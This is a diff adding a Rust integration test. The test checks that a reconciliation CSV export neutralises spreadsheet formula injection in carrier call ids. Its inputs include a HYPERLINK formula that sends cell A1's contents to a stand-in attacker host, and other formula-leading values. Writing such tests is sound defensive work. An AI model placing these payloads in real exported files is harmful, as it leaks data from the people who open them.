@@ -287,3 +287,55 @@ both!(
     a_single_connection_pool_reconciles_too,
     [("LEDGER_DB_MAX_CONNECTIONS", "1")]
 );
+
+/// A carrier chooses its call ids; the CSV a privacy officer opens in a
+/// spreadsheet must not run one as a formula.
+async fn a_call_id_never_runs_as_a_formula_in_the_csv(app: TestApp) {
+    let formula = r#"=HYPERLINK("http://evil.example/?x="&A1,"open")"#;
+    let calls = [formula, "+SUM(1+1)", "@cmd", "-2+3"]
+        .map(|call| pair("carrier-a", call, 0, 45).1)
+        .to_vec();
+    app.post(
+        "/v1/transfers/batch",
+        &app.carrier("carrier-a"),
+        &json!({"transfers": calls}),
+    )
+    .await
+    .expect(201);
+    let csv = app
+        .get(
+            "/v1/reconciliation?carrier_id=carrier-a&outcome=missing_at_platform&format=csv",
+            &app.officer(),
+        )
+        .await
+        .expect(200);
+    let mut cells: Vec<String> = csv
+        .text
+        .lines()
+        .skip(1)
+        .map(|l| {
+            csv::ReaderBuilder::new()
+                .has_headers(false)
+                .from_reader(l.as_bytes())
+                .records()
+                .next()
+                .unwrap()
+                .unwrap()[0]
+                .to_string()
+        })
+        .collect();
+    cells.sort();
+    let mut expected = [formula, "+SUM(1+1)", "@cmd", "-2+3"].map(|c| format!("'{c}"));
+    expected.sort();
+    assert_eq!(cells, expected, "{}", csv.text);
+    // The JSON answer keeps the call ids as they were sent.
+    let json = app
+        .get(
+            "/v1/reconciliation?carrier_id=carrier-a&outcome=missing_at_platform",
+            &app.officer(),
+        )
+        .await
+        .expect(200);
+    assert!(json.text.contains("+SUM(1+1)"), "{}", json.text);
+}
+both!(a_call_id_never_runs_as_a_formula_in_the_csv);
